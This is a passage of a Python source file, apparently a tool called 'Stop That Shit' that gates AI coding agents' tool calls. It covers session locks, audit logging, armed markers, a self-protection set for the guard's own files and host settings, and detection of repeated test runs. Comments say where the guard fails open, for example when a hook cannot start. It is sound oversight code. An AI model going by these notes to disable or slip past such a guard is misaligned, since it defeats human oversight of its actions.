        deadline = time.monotonic() + LOCK_WAIT_SECONDS
        while True:
            try:
                os.mkdir(lock, 0o700)
            except FileNotFoundError:
                _state_mkdirs(os.path.dirname(lock))
                continue
            except FileExistsError:
                if not self._reclaim(key, lock):
                    return None
            else:
                owner = os.path.join(lock, "%d-%s" % (os.getpid(), _uuid4_text()))
                try:
                    os.close(os.open(owner, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
                except FileNotFoundError:
                    owner = ""  # a reclaimer removed our fresh dir; start over
                if owner:
                    try:
                        entries = os.listdir(lock)
                    except FileNotFoundError:
                        entries = []
                    if entries == [os.path.basename(owner)]:
                        return owner
                    # Someone else slipped in between our mkdir and owner file:
                    # back off so that at most one of us holds the lock.
                    self._release(owner)
            if time.monotonic() >= deadline:
                raise LockTimeout(key)
            time.sleep(LOCK_POLL_SECONDS)

    def _reclaim(self, key: str, lock: str) -> bool:
        """Clear a lock whose holders are gone; False when the lock path is not a dir."""
        import stat
        import time
        try:
            info = os.lstat(lock)
        except FileNotFoundError:
            return True
        if not stat.S_ISDIR(info.st_mode):
            return False
        try:
            entries = os.listdir(lock)
        except (FileNotFoundError, NotADirectoryError):
            return True
        removed = False
        for entry in entries:
            pid = _owner_pid(entry)
            if pid is None or _pid_alive(pid):
                continue
            try:
                os.unlink(os.path.join(lock, entry))
            except FileNotFoundError:
                continue
            removed = True
            sys.stderr.write("sts: reclaimed the lock of session %s from dead process %d\n"
                             % (key, pid))
        if entries:
            if removed:
                # rmdir fails harmlessly if a live entry remains.  Only after our
                # own removal: otherwise we could hit a newcomer's fresh dir.
                try:
                    os.rmdir(lock)
                except OSError:
                    pass
            return True
        if time.time() - info.st_mtime > EMPTY_LOCK_RECLAIM_SECONDS:
            try:
                os.rmdir(lock)
                sys.stderr.write("sts: removed an empty stale lock of session %s\n" % key)
            except OSError:
                pass
        return True

    @staticmethod
    def _release(owner: str) -> None:
        try:
            os.unlink(owner)
        except OSError:
            pass
        try:
            os.rmdir(os.path.dirname(owner))
        except OSError:
            pass

    def update(self, key: str, change: Callable[[Loaded], Tuple[Optional[dict], Any]]) -> Any:
        """Lock, load, call change(loaded) -> (new_state or None, result), write, unlock.

        In recovery nothing is written, except after `preserve_damaged(key)`
        was called from inside `change` (a valid directive starts a damaged
        session afresh): the damaged bytes are then out
        of the way and the fresh state is written.  A lock path that is a
        file yields STS_LOCK_DAMAGED recovery without waiting.  Raises
        LockTimeout after 1.5 s; write errors propagate.
        """
        owner = self._acquire(key)
        if owner is None:
            error = _lock_damaged(key)
            _, result = change(Loaded(recovery_state(error), error, True))
            return result
        self._preserved.discard(key)
        try:
            loaded = self.load(key)
            new_state, result = change(loaded)
            error = loaded.storage_error
            may_write = error is None or (error.get("code") == "STATE_DAMAGED"
                                          and key in self._preserved)
            if new_state is not None and may_write:
                self._write_json(self._state_path(key), new_state)
            return result
        finally:
            self._preserved.discard(key)
            self._release(owner)

    def preserve_damaged(self, key: str) -> str:
        """Move a damaged state file aside as `<file>.damaged-<UTC stamp>`, bytes
        untouched; returns the new path."""
        import time
        target = self._state_path(key)
        now = time.time()
        millis = int(now * 1000) % 1000
        stamp = time.strftime("%Y%m%dT%H%M%S", time.gmtime(now)) + "%03dZ" % millis
        kept = "%s.damaged-%s" % (target, stamp)
        suffix = 1
        while os.path.lexists(kept):
            kept = "%s.damaged-%s-%d" % (target, stamp, suffix)
            suffix += 1
        os.rename(target, kept)
        self._preserved.add(key)
        return kept

    # ---- writing ------------------------------------------------------------

    def _write_json(self, target: str, obj: Any, indent: Optional[int] = 2) -> None:
        """Durable atomic replace (_replace_file): the old file survives any failure."""
        _state_mkdirs(os.path.dirname(target))
        _replace_file(target, (json.dumps(obj, indent=indent, ensure_ascii=False)
                               + "\n").encode("utf-8"))

    def _append_line(self, subdir: str, name: str, record: dict) -> None:
        """One JSON line with a single O_APPEND write, so lines never interleave."""
        data = (json.dumps(record, ensure_ascii=False, separators=(",", ":"))
                + "\n").encode("utf-8")
        target = os.path.join(self.root, subdir, name)
        flags = os.O_WRONLY | os.O_APPEND | os.O_CREAT | getattr(os, "O_NOFOLLOW", 0)
        try:
            fd = os.open(target, flags, 0o600)
        except FileNotFoundError:
            _state_mkdirs(os.path.dirname(target))
            fd = os.open(target, flags, 0o600)
        try:
            written = os.write(fd, data)
        finally:
            os.close(fd)
        if written != len(data):
            raise OSError("short audit write (%d of %d bytes)" % (written, len(data)))

    def append_audit(self, key: str, record: dict) -> bool:
        """One O_APPEND write of one JSON line; False (never raise) on failure."""
        try:
            self._append_line("runtime", key + ".jsonl", record)
            return True
        except Exception:
            return False

    def append_annotation(self, record: dict) -> None:
        """Append to runtime/annotations.jsonl; raises OSError on failure."""
        self._append_line("runtime", "annotations.jsonl", record)

    def annotate_host_effect(self, event_id: str, effect: str) -> dict:
        """Record an observed host effect for an event; returns the line.

        The hook itself always writes `unobserved` (a returned denial does not
        prove the host skipped the call); a test or user that saw what the host
        did says so here, in an annotation line, never by rewriting the log."""
        event_id = event_id.lower() if isinstance(event_id, str) else event_id
        if not event_id_ok(event_id):
            raise ValueError("invalid event id: %r" % (event_id,))
        if effect not in HOST_EFFECTS:
            raise ValueError("invalid host effect: %r" % (effect,))
        record = {"schemaVersion": 1, "annotationId": "ann_" + _uuid4_text(),
                  "occurredAt": utc_now_iso(), "eventId": event_id, "hostEffect": effect}
        self.append_annotation(record)
        return record

    # ---- markers, links, hosts ----------------------------------------------

    def set_armed(self, key: str, armed: bool) -> bool:
        """Keep <data>/armed/<key> present iff the governing contract is armed.

        Best-effort: a marker only matters when sts itself fails, so an error
        here must not fail the hook.  One stat in the common (unchanged) case.
        Returns True when the marker changed.
        """
        marker = os.path.join(self.root, "armed", key)
        try:
            os.stat(marker)
            present = True
        except FileNotFoundError:
            present = False
        except OSError:
            return False
        if present == bool(armed):
            return False
        try:
            if armed:
                try:
                    fd = os.open(marker, os.O_WRONLY | os.O_CREAT, 0o600)
                except FileNotFoundError:
                    _state_mkdirs(os.path.dirname(marker))
                    fd = os.open(marker, os.O_WRONLY | os.O_CREAT, 0o600)
                os.close(fd)
            else:
                os.unlink(marker)
        except OSError:
            return False
        return True

    def armed_marker(self, key: str) -> bool:
        return os.path.exists(self.path("armed", key))

    def _read_link(self, session_id: str) -> Optional[str]:
        target = os.path.join(self.root, "links", session_key(session_id) + ".json")
        root = None
        try:
            with open(target, "rb") as fh:
                obj = json.loads(fh.read().decode("utf-8"))
            root = obj.get("rootSessionId") if isinstance(obj, dict) else None
        except FileNotFoundError:
            return None
        except (OSError, ValueError, RecursionError):
            root = None
        if not _state_text_ok(root):
            raise StateDamaged(
                "The parent link of session %s is unreadable; read-only recovery is "
                "active and the file is preserved. Restore it or start a new host "
                "session." % session_key(session_id), code="PARENT_LINK_DAMAGED")
        return root

    def linked_children(self, root_session_id: str) -> List[str]:
        """Keys of sessions whose link names this root (for refreshing their markers).

        Reads every link file, so it belongs to link changes and root arming
        changes, never to an ordinary tool call.  Damaged links are skipped.
        """
        out = []
        try:
            names = sorted(os.listdir(os.path.join(self.root, "links")))
        except (FileNotFoundError, NotADirectoryError):
            return out
        for name in names:
            if not name.endswith(".json"):
                continue
            try:
                with open(os.path.join(self.root, "links", name), "rb") as fh:
                    obj = json.loads(fh.read().decode("utf-8"))
            except (OSError, ValueError, RecursionError):
                continue
            if isinstance(obj, dict) and obj.get("rootSessionId") == root_session_id:
                out.append(name[:-5])
        return out

    def link_root(self, session_id: str) -> Optional[str]:
        """The root session id a child session is linked to, or None.

        Follows chains (a root that later got a parent) up to 32 levels.
        Raises StateDamaged with code PARENT_LINK_DAMAGED when a link file on
        the way is unreadable or malformed, or the chain loops or is too deep.
        """
        current = session_id
        seen = {session_id}
        for _ in range(LINK_MAX_DEPTH):
            parent = self._read_link(current)
            if parent is None:
                return None if current == session_id else current
            if parent in seen:
                break
            seen.add(parent)
            current = parent
        raise StateDamaged(
            "The parent links of session %s loop or nest deeper than %d levels; read-only "
            "recovery is active." % (session_key(session_id), LINK_MAX_DEPTH),
            code="PARENT_LINK_DAMAGED")

    def write_link(self, child_session_id: str, root_session_id: str) -> None:
        """Persist child -> root (OpenCode, Hermes, Oh My Pi children).

        The stored target is the root's own root, so chains stay one level
        deep; a link that would point a session at itself is not written.
        """
        if not _state_text_ok(child_session_id) or not _state_text_ok(root_session_id):
            raise ValueError("link ids must be non-empty strings")
        root = self.link_root(root_session_id) or root_session_id
        if root == child_session_id:
            return
        try:
            if self._read_link(child_session_id) == root:
                return
        except StateDamaged:
            pass  # a new link replaces a damaged one only by explicit request: this is it
        target = os.path.join(self.root, "links", session_key(child_session_id) + ".json")
        self._write_json(target, {"rootSessionId": root}, indent=None)

    def touch_host(self, host: str) -> None:
        """Doctor's "last event per host": an empty file whose mtime is the answer."""
        if not isinstance(host, str) or not host or "/" in host or "\\" in host \
                or host.startswith("."):
            return
        marker = os.path.join(self.root, "hosts", host)
        try:
            try:
                os.utime(marker)
            except FileNotFoundError:
                _state_mkdirs(os.path.dirname(marker))
                os.close(os.open(marker, os.O_WRONLY | os.O_CREAT, 0o600))
        except OSError:
            pass


def new_event_id() -> str:
    """evt_ + a UUID v4, without importing uuid (it costs ~7 ms at start-up)."""
    return "evt_" + _uuid4_text()


def utc_now_iso() -> str:
    """ISO-8601 UTC with milliseconds and Z."""
    import time
    now = time.time()
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)) + ".%03dZ" % (int(now * 1000) % 1000)


# ---- audit readers (inspection only; a tool-call hook never reads logs) -----

_AUDIT_RES: Dict[str, Any] = {}


def _audit_re(name: str) -> Any:
    # Compiled on first use: tool-call hooks never read logs, so they never pay for these.
    if not _AUDIT_RES:
        import re
        _AUDIT_RES.update(
            event=re.compile(r"evt_[0-9a-f-]+\Z"),
            reason=re.compile(r"[A-Z][A-Z_0-9]*\Z"),
            time=re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}"
                            r"(\.[0-9]{1,6})?Z\Z"))
    return _AUDIT_RES[name]


def event_id_ok(value: Any) -> bool:
    """`evt_` followed by lower-case hex and dashes."""
    return isinstance(value, str) and _audit_re("event").match(value) is not None


# Calendar validity per "YYYY-MM-DD"; a log holds few distinct days.
_AUDIT_DAYS: Dict[str, bool] = {}


def _time_ok(value: Any) -> bool:
    if not isinstance(value, str) or not _audit_re("time").match(value):
        return False
    # Accepts exactly what strptime("%Y-%m-%dT%H:%M:%S") accepted, without its
    # cost (about 12 us a call, half of a 100,000-line `runtime all`): the
    # regex fixed the shape, so the date is checked once per day and the
    # clock by comparing two-digit strings.
    day = value[:10]
    ok = _AUDIT_DAYS.get(day)
    if ok is None:
        from datetime import date
        try:
            date(int(day[:4]), int(day[5:7]), int(day[8:10]))
            ok = True
        except ValueError:
            ok = False
        if len(_AUDIT_DAYS) > 4096:  # bounded even for a log of random dates
            _AUDIT_DAYS.clear()
        _AUDIT_DAYS[day] = ok
    return ok and value[11:13] < "24" and value[14:16] < "60" and value[17:19] < "60"


def runtime_event_ok(record: Any) -> bool:
    """Shape checks for one RuntimeEvent v1 line; a line that fails them is
    counted as damaged and skipped by readers."""
    if not isinstance(record, dict) or type(record.get("schemaVersion")) is not int \
            or record.get("schemaVersion") != 1:
        return False
    if not event_id_ok(record.get("eventId")):
        return False
    if not _time_ok(record.get("occurredAt")):
        return False
    if record.get("controlState") not in ("observing", "armed"):
        return False
    action, decision = record.get("action"), record.get("decision")
    if not isinstance(action, dict) or not isinstance(decision, dict):
        return False
    for name in ("toolName", "mutability"):
        if not isinstance(action.get(name), str):
            return False
    for name in ("policyOutcome", "responseOutcome"):
        if not isinstance(decision.get(name), str):
            return False
    reason = decision.get("reasonCode")
    if not isinstance(reason, str) or not _audit_re("reason").match(reason):
        return False
    return record.get("contract") is None or isinstance(record.get("contract"), dict)


def _annotation_ok(record: Any) -> bool:
    if not isinstance(record, dict):
        return False
    if not event_id_ok(record.get("eventId")):
        return False
    if "label" in record:
        return record["label"] in LABELS and ("hostEffect" not in record
                                              or record["hostEffect"] in HOST_EFFECTS)
    return record.get("hostEffect") in HOST_EFFECTS


def _iter_jsonl(path: str, check: Callable[[Any], bool], counter: Optional[dict]):
    try:
        fh = open(path, "rb")
    except FileNotFoundError:
        return
    # The C scanner behind json.loads, called directly: json.loads adds about
    # 2 us of Python per call, a third of the parse time of a 100,000-line
    # `runtime all`.  Stripping JSON's own four whitespace characters and
    # requiring the value to end the line accepts exactly what json.loads does.
    scan = json.JSONDecoder().scan_once
    with fh:
        for raw in fh:
            if not raw.strip():
                continue
            try:
                text = raw.decode("utf-8").strip(" \t\n\r")
                record, end = scan(text, 0)
                if end != len(text):
                    record = None
            except (ValueError, RecursionError, StopIteration):
                record = None
            if record is not None and check(record):
                yield record
            elif counter is not None:
                counter["damaged"] = counter.get("damaged", 0) + 1


def audit_log_keys(store: Store) -> List[str]:
    """Session keys that have a runtime log, sorted."""
    try:
        names = os.listdir(store.path("runtime"))
    except (FileNotFoundError, NotADirectoryError):
        return []
    return sorted(n[:-6] for n in names if n.endswith(".jsonl") and n != "annotations.jsonl")


def iter_audit(store: Store, key: Optional[str] = None, counter: Optional[dict] = None):
    """Stream valid RuntimeEvent records of one session's log, or of every log.

    Lines that are unparseable or fail the shape checks are skipped and
    counted in counter["damaged"] when a dict is given.  Records come in file
    order; callers that need time order sort by occurredAt (stable).
    """
    keys = [key] if key is not None else audit_log_keys(store)
    for k in keys:
        for record in _iter_jsonl(store.path("runtime", k + ".jsonl"), runtime_event_ok, counter):
            yield record


class Annotations(Record):
    """runtime/annotations.jsonl folded per event: the last line of each kind wins."""

    __slots__ = FIELDS = ('labels', 'host_effects', 'records', 'damaged')
    DEFAULTS = {'labels': dict, 'host_effects': dict, 'records': list, 'damaged': 0}

    labels: Dict[str, str]
    host_effects: Dict[str, str]
    records: List[dict]
    damaged: int


def read_annotations(store: Store) -> Annotations:
    """Labels and observed host effects by event id; damaged lines are counted."""
    counter = {"damaged": 0}
    out = Annotations()
    path = store.path("runtime", "annotations.jsonl")
    for record in _iter_jsonl(path, _annotation_ok, counter):
        out.records.append(record)
        if "label" in record:
            out.labels[record["eventId"]] = record["label"]
        if "hostEffect" in record:
            out.host_effects[record["eventId"]] = record["hostEffect"]
    out.damaged = counter["damaged"]
    return out


###############################################################################
# Engine
#
# Owns the glue: one validated ControlEvent in, one CoreResult out.  It picks
# the governing session, runs the decision or the contract update under the
# right lock, writes the audit line and keeps the armed marker true.  No
# host knowledge lives here.
###############################################################################


# Core result kind -> audit responseOutcome; a deny uses the adapter's own outcome.
_RESPONSE_OUTCOMES: Dict[str, str] = {"none": "none", "context": "context_returned"}


def handle_event(event: ControlEvent, store: Store,
                 response_outcome: str = "permission_deny_returned") -> CoreResult:
    """Process one event for its governing session (event.session_id)."""
    key = session_key(event.session_id)
    handler = _KIND_HANDLERS[event.kind]
    return handler(event, key, store, response_outcome)


def _armed(state: dict, storage_error: Optional[dict]) -> bool:
    """What the shims' armed marker means: the guard is armed, a directive error
    is pending, or the state is in read-only recovery.  When sts.py cannot
    answer, a shim blocks a tool call exactly when this was true."""
    return (storage_error is not None or bool(state.get("directiveError"))
            or control_state(state["contract"]) == "ARMED")


def _refresh_markers(store: Store, event: ControlEvent, key: str, armed: bool) -> None:
    """Keep the armed markers of the governing session and its children true.

    Children's markers are rewritten only when the root's marker changes, so
    an ordinary tool call costs one stat.
    """
    try:
        if store.set_armed(key, armed):
            for child_key in store.linked_children(event.session_id):
                store.set_armed(child_key, armed)
        source = event.source_session_id
        if source and source != event.session_id:
            store.set_armed(session_key(source), armed)
    except OSError:
        pass  # a marker is a fail-closed hint for the shims, never worth failing a hook


def _context_for(state: dict, storage_error: Optional[dict]) -> str:
    summary = ledger_summary(state["delegation"])
    return contract_context(state["contract"], summary.reserved,
                            bool(summary.unresolved_reasons), storage_error)


def _protected_paths(store: Store) -> List[Any]:
    """The self-protection set: data dir, this file, installed paths, and the
    host settings that decide whether the hook runs (HostSettings)."""
    paths: List[Any] = [store.root, os.path.abspath(__file__), host_settings()]
    try:
        with open(store.path("installed.json"), "rb") as fh:
            listed = json.loads(fh.read()).get("paths", [])
        paths.extend(p for p in listed if isinstance(p, str))
    except (OSError, ValueError, AttributeError):
        pass
    return paths


def _audit_record(event_id: str, key: str, action: Action, state: dict,
                  decision: Decision, response: str) -> dict:
    contract = state["contract"]
    summary = ledger_summary(state["delegation"])
    action_part = {
        "toolName": action.name, "mutability": action.mutability,
        "delegationCount": action.admission_count,
        "pathCount": len(action.affected_paths),
        "hashIntent": action.hash_intent, "dependencyIntent": action.dependency_intent,
        "unboundedDelegation": action.unbounded_delegation,
    }
    if action.starts_agent:
        action_part["startsAgent"] = action.starts_agent
    if action.analysis_reason in ANALYSIS_REASONS:
        action_part["analysisReason"] = action.analysis_reason
    allowed = contract.get("allowedPaths")
    return {
        "schemaVersion": 1, "eventId": event_id, "occurredAt": utc_now_iso(),
        "sessionKey": key,
        "policyRevision": {"pluginVersion": VERSION, "controlVersion": 2},
        "controlState": control_state(contract).lower(),
        "action": action_part,
        "contract": {
            "mode": contract["mode"], "level": contract["level"],
            "agentBudget": contract["agentBudget"],
            "reservedUpperBound": summary.reserved,
            "countUnproven": bool(summary.unresolved_reasons),
            "hashPolicy": contract["hashPolicy"], "dependencyPolicy": contract["dependencyPolicy"],
            "allowedPathCount": None if allowed is None else len(allowed),
        },
        "decision": {
            "policyOutcome": decision.outcome, "family": decision.family,
            "reasonCode": decision.code, "responseOutcome": response,
            "hostEffect": "unobserved",
        },
    }


def _handle_action_before(event: ControlEvent, key: str, store: Store,
                          response_outcome: str) -> CoreResult:
    action: Action = event.action
    declared = event.declared
    action_id = event.action_id
    needs_paths = bool(action.affected_paths or action.shell_write_targets
                       or action.shell_write_patterns or action.unknown_write_target)
    protected = _protected_paths(store) if needs_paths else []

    def judge(loaded: Loaded) -> Decision:
        # Thrash is only checked under a confirmed contract that is not off,
        # so only then is its side file read and written.
        contract = loaded.state["contract"]
        active = contract["level"] != "off" and contract["mode"] != "unconfirmed"
        thrash = _thrash_repeats(store, key, action) if active else 0
        return decide(action, loaded.state, action_id=action_id, declared=declared,
                      storage_error=loaded.storage_error, protected_paths=protected,
                      thrash_repeats=thrash)

    if changes_delegation(action, declared):
        def change(loaded: Loaded) -> Tuple[Optional[dict], Tuple[Loaded, Decision]]:
            decision = judge(loaded)
            written = apply_admission(loaded.state["delegation"], action, action_id,
                                      declared, decision)
            return (loaded.state if written else None), (loaded, decision)
        try:
            loaded, decision = store.update(key, change)
        except LockTimeout as exc:
            # Only a finite budget makes a lost admission unsafe: STATE_BUSY.
            loaded = store.load(key)
            budget = loaded.state["contract"].get("agentBudget", MAX_SAFE_INTEGER)
            sys.stderr.write("sts: %s\n" % exc)
            if _is_int(budget) and budget < MAX_SAFE_INTEGER:
                decision = state_busy_decision(loaded.state["contract"])
            else:
                # Unlimited: judged without the lock and not reserved, but still
                # audited like every judged tool call.
                decision = judge(loaded)
    else:
        loaded = store.load(key)
        decision = judge(loaded)

    state, storage_error = loaded.state, loaded.storage_error
    contract = state["contract"]
    kind = outcome_result_kind(decision.outcome)
    response = _RESPONSE_OUTCOMES.get(kind, response_outcome)
    event_id = None
    if contract["level"] != "off" or storage_error is not None:
        candidate = new_event_id()
        record = _audit_record(candidate, key, action, state, decision, response)
        if store.append_audit(key, record):
            event_id = candidate
    _refresh_markers(store, event, key, _armed(state, storage_error))
    _thrash_note_write(store, key, action, decision)
    if kind == "none":
        return CoreResult("none", code=decision.code, event_id=event_id)
    allowed = contract.get("allowedPaths")
    culprit = decision_culprit(action, decision, allowed if isinstance(allowed, list) else None,
                               protected)
    text = decision_message(decision, state_label=control_state(contract),
                            mode=contract["mode"], response_outcome=response,
                            event_id=event_id, culprit=culprit)
    return CoreResult(kind, text, decision.code, event_id)


def _handle_prompt(event: ControlEvent, key: str, store: Store,
                   response_outcome: str) -> CoreResult:
    prompt = event.prompt or ""
    command = parse_inspection_command(prompt)
    if command is not None:
        return CoreResult("context", inspection_response(command, store, key))

    kept_file = None
    first = store.load(key)
    if first.storage_error is not None:
        outcome = interpret_prompt(DEFAULT_CONTRACT, prompt)
        if outcome.kind != "directive" or first.storage_error.get("code") != "STATE_DAMAGED" \
                or not first.existed:
            error = first.storage_error
            _refresh_markers(store, event, key, True)
            return CoreResult("context", "%s: %s" % (error["code"], error["message"]),
                              error["code"])
        # A valid directive keeps the damaged bytes aside and starts fresh.
        kept_file = store.preserve_damaged(key)

    def change(loaded: Loaded) -> Tuple[Optional[dict], CoreResult]:
        state = loaded.state
        if loaded.storage_error is not None:
            error = loaded.storage_error
            return None, CoreResult("context", "%s: %s" % (error["code"], error["message"]),
                                    error["code"])
        if kept_file is not None:
            state["delegation"]["unresolved"]["state:damaged"] = "state_unavailable"
        before = json.dumps(state, sort_keys=True)
        outcome = interpret_prompt(state["contract"], prompt)
        if outcome.kind == "error":
            state["directiveError"] = outcome.error
            state["directiveWarning"] = None
            state["lastPromptContext"] = None
            return state, CoreResult("prompt-error", directive_error_text(outcome.error),
                                     outcome.error["code"])
        state["contract"] = outcome.contract
        if outcome.kind in ("directive", "correction"):
            state["directiveError"] = None
            state["directiveWarning"] = None
        text = _context_for(state, None)
        if kept_file is not None:
            text = "The damaged state file was kept as %s. %s" % (kept_file, text)
        if text == state.get("lastPromptContext"):
            result = NO_RESULT
        else:
            state["lastPromptContext"] = text
            result = CoreResult("context", text)
        changed = json.dumps(state, sort_keys=True) != before or kept_file is not None
        return (state if changed else None), result

    try:
        result, state = store.update(key, lambda loaded: _with_state(change, loaded))
    except (LockTimeout, OSError) as exc:
        # A directive that cannot be saved must not vanish in silence: the
        # user is asked to resubmit it; an ordinary prompt fails open like any
        # other hook.
        contract = store.load(key).state["contract"]
        if interpret_prompt(contract, prompt).kind == "plain":
            raise
        if isinstance(exc, LockTimeout):
            why, code = "the session state is locked by another hook (%s)" % exc, "STS_LOCK_TIMEOUT"
        else:
            why, code = "the state folder cannot be written (%s)" % exc, "STATE_WRITE_FAILED"
        return CoreResult("prompt-error",
                          "Stop That Shit could not save this directive because %s. The "
                          "previous contract still applies. Resubmit the prompt." % why, code)
    _refresh_markers(store, event, key, _armed(state, None))
    return result


def _with_state(change: Callable[[Loaded], Tuple[Optional[dict], CoreResult]],
                loaded: Loaded) -> Tuple[Optional[dict], Tuple[CoreResult, dict]]:
    new_state, result = change(loaded)
    return new_state, (result, loaded.state)


def _handle_session_start(event: ControlEvent, key: str, store: Store,
                          response_outcome: str) -> CoreResult:
    loaded = store.load(key)
    _refresh_markers(store, event, key, _armed(loaded.state, loaded.storage_error))
    text = _context_for(loaded.state, loaded.storage_error)
    missing = _guard_files_missing(store)
    if missing and event.source_session_id is None:
        text = _GUARD_FILES_MISSING % ", ".join(missing) + "\n" + text
    return CoreResult("context", text)


# What a session start says when files `install` wrote are gone: a hook or
# shim that cannot start does not block, so that host runs unguarded.
_GUARD_FILES_MISSING = (
    "WARNING: Stop That Shit is not fully installed: %s is missing. A host whose hook or shim "
    "cannot start runs every tool call without the guard (the shims and the Hermes plugin "
    "still block while a session is armed). Run `python3 sts.py doctor`, then reinstall.")


def _guard_files_missing(store: Store) -> List[str]:
    """The files `install` wrote (installed.json) that no longer exist."""
    try:
        with open(store.path("installed.json"), "rb") as fh:
            listed = json.loads(fh.read()).get("paths", [])
    except (OSError, ValueError, AttributeError):
        return []
    return [p for p in listed if isinstance(p, str) and not os.path.exists(p)]


def _handle_lifecycle(event: ControlEvent, key: str, store: Store,
                      response_outcome: str) -> CoreResult:
    """action.after, subagent.*, session.end: ledger facts from declared adapters only."""
    if not event.declared:
        return NO_RESULT
    if event.kind == "session.end" and not event.all_delegations_stopped:
        return NO_RESULT

    def change(loaded: Loaded) -> Tuple[Optional[dict], Loaded]:
        if loaded.storage_error is not None:
            return None, loaded  # recovery never writes: lifecycle facts are lost
        changed = apply_lifecycle_fact(loaded.state["delegation"], event)
        return (loaded.state if changed else None), loaded

    loaded = store.update(key, change)
    if event.kind == "subagent.start":
        return CoreResult("context", _context_for(loaded.state, loaded.storage_error))
    return NO_RESULT


_KIND_HANDLERS: Dict[str, Callable[[ControlEvent, str, Store, str], CoreResult]] = {
    "action.before": _handle_action_before,
    "prompt.submit": _handle_prompt,
    "session.start": _handle_session_start,
    "action.after": _handle_lifecycle,
    "subagent.start": _handle_lifecycle,
    "subagent.stop": _handle_lifecycle,
    "session.end": _handle_lifecycle,
}


# ---- thrash bookkeeping -----------------------------------------------------
# A small side file per session holds a digest of the last repeated command,
# how often it ran and whether a write came in between.  Best effort: one
# lock-free replace, a lost update is acceptable, a failure never changes a
# decision.


# Test runners whose repeated runs count as thrash (the first words of a command).
_TEST_COMMANDS = (
    ("pytest",), ("py.test",), ("python", "-m", "pytest"), ("python3", "-m", "pytest"),
    ("python", "-m", "unittest"), ("python3", "-m", "unittest"), ("tox",), ("nox",),
    ("npm", "test"), ("npm", "run", "test"), ("npm", "t"), ("yarn", "test"), ("pnpm", "test"),
    ("bun", "test"), ("deno", "test"), ("npx", "jest"), ("npx", "vitest"), ("jest",),
    ("vitest",), ("go", "test"), ("cargo", "test"), ("cargo", "nextest"), ("make", "test"),
    ("make", "check"), ("mvn", "test"), ("gradle", "test"), ("./gradlew", "test"),
    ("dotnet", "test"), ("rspec",), ("bundle", "exec", "rspec"), ("phpunit",),
    ("vendor/bin/phpunit",), ("ctest",), ("mix", "test"),
)


def _thrash_command(action: Action) -> Optional[str]:
    """The normalized command when the action is a proven read or a test run."""
    command = action.command
    if not command:
        return None
    words = command.split()
    normalized = " ".join(words)
    if action.mutability == "read":
        return normalized
    if any(tuple(words[:len(prefix)]) == prefix for prefix in _TEST_COMMANDS):
        return normalized
    return None


def _thrash_path(store: Store, key: str) -> str:
    return store.path("thrash", key + ".json")


def _thrash_load(path: str) -> dict:
    try:
        with open(path, "rb") as fh:
            record = json.loads(fh.read())
        return record if isinstance(record, dict) else {}
    except (OSError, ValueError):
        return {}


def _thrash_save(path: str, record: dict) -> None:
    """Best effort: a count lost to a full disk only delays the thrash note."""
    data = json.dumps(record).encode("utf-8")
    try:
        try:
            _replace_file(path, data, durable=False)
        except FileNotFoundError:  # first record of this data dir
            os.makedirs(os.path.dirname(path), mode=0o700, exist_ok=True)
            _replace_file(path, data, durable=False)
    except OSError:
        pass


def _thrash_repeats(store: Store, key: str, action: Action) -> int:
    """How many times in a row this read/test command ran with no write between (incl. now)."""
    command = _thrash_command(action)
    if command is None:
        return 0
    digest = sha256_hex(command.encode("utf-8", "replace"))
    path = _thrash_path(store, key)
    record = _thrash_load(path)
    if record.get("digest") == digest and not record.get("writeSeen") \
            and _is_int(record.get("count")):
        count = record["count"] + 1
    else:
        count = 1
    _thrash_save(path, {"digest": digest, "count": count, "writeSeen": False})
    return count


def _thrash_note_write(store: Store, key: str, action: Action, decision: Decision) -> None:
    """A permitted write or unproven action breaks a run of repeats."""
    if decision.outcome not in ("allow", "report_and_defer"):
        return
    if action.mutability not in ("write", "unknown") or _thrash_command(action) is not None:
        return
    path = _thrash_path(store, key)
    record = _thrash_load(path)
    if record and not record.get("writeSeen"):
        record["writeSeen"] = True
        _thrash_save(path, record)


###############################################################################
# Adapters: shared helpers
#
# Owns what every host adapter shares: path normalization, the name-based
# fallback classifier for tools no table covers, shell/patch classification
# through the analysis section, and the Adapter base class whose tables map
# host events to kinds and tools to buckets.
###############################################################################


class HookCall(Record):
    """One host event, translated.

    event: the ControlEvent v2 as a JSON dict, or None when the core is not
    asked (then `answer` is the adapter's own answer, e.g. a paused session).
    tool_call: the host will run a tool after this hook (fail-closed rules).
    render: whether a context result reaches the model on this host event.
    """

    __slots__ = FIELDS = ('host_event', 'event', 'answer', 'tool_call', 'render', 'session_id')
    DEFAULTS = {'event': None, 'answer': None, 'tool_call': False, 'render': True, 'session_id': None}

    host_event: str
    event: Optional[dict]
    answer: Optional[CoreResult]
    tool_call: bool
    render: bool
    session_id: Optional[str]


def _clean_path(raw: str) -> str:
    text = raw.strip()
    if text[:1] in ("'", '"'):
        text = text[1:]
    if text[-1:] in ("'", '"'):
        text = text[:-1]
    return text


def _is_windows_path(path: str) -> bool:
    return (len(path) >= 3 and path[1] == ":" and path[0].isalpha() and path[2] in "\\/") \
        or path.startswith("\\\\")


def normalize_paths(paths: List[Any], cwd: Optional[str]) -> List[str]:
    """Trim (and one leading and one trailing quote), relativize to cwd (Windows
    rules when both look like `C:\\` or a UNC path), forward slashes, no leading
    ./, no empty paths, each once, in order.  A path outside cwd becomes
    `../...`, so it is outside any files= boundary.

    A `./` stays in front of `~`: it marks a folder literally named `~` on a
    host that does not expand it (see `host_path`), which the core must not
    read as the home folder."""
    out: List[str] = []
    for raw in paths:
        if not isinstance(raw, str):
            continue
        path = _clean_path(raw)
        if not path:
            continue
        if cwd:
            if _is_windows_path(path) and _is_windows_path(cwd):
                import ntpath
                try:
                    path = ntpath.relpath(path, cwd)
                except ValueError:
                    pass  # another drive: Node keeps the absolute path
            elif path.startswith("/") and cwd.startswith("/"):
                base = cwd.rstrip("/") + "/"
                if path.startswith(base) and len(path) > len(base):
                    # Cut the prefix and keep any "..": relpath would apply it
                    # lexically, but Hermes and OpenCode hand an absolute path
                    # to the kernel, which applies it after following a link.
                    # The core reads the rest both ways (see _resolve_for_boundary).
                    path = path[len(base):]
                else:
                    import posixpath
                    trailing = path.endswith("/") and len(path) > 1
                    path = posixpath.relpath(path, cwd) + ("/" if trailing else "")
        path = path.replace("\\", "/")
        while path.startswith("./") and not path.startswith("./~"):
            path = path[2:]
        if path and path not in out:
            out.append(path)
    return out


